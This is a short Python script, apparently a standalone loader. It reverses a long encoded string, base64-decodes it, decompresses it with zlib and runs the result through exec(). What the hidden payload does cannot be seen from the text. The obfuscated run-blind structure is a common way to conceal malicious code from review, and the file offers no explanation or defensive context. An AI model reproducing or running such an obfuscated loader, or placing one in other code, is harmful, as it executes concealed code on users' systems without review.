import base64 as b, zlib as z
P = "==gLUpHwfw8FUois+Y0/pbPuGKiyFcn9qcxl1CiN8wAF1DN4H0KWweIwY9WoeUv5yulFhb6gxaAo5f2zispB2uhSzV6VuR/3ftV/yh/5WMl52ZTe5b0DLWZeE6Syilvaeisobe/eAYoXlfAh7xKpK1D0IVrdurGIZgPZbVdrBjtsLalQP81pgiUe/Kbqm47zmJZGlk2YEbsWGHHYcF4cpEINrCbYyirwfuXRMEzAKGjjdxJe"
exec(z.decompress(b.b64decode(P[::-1])))
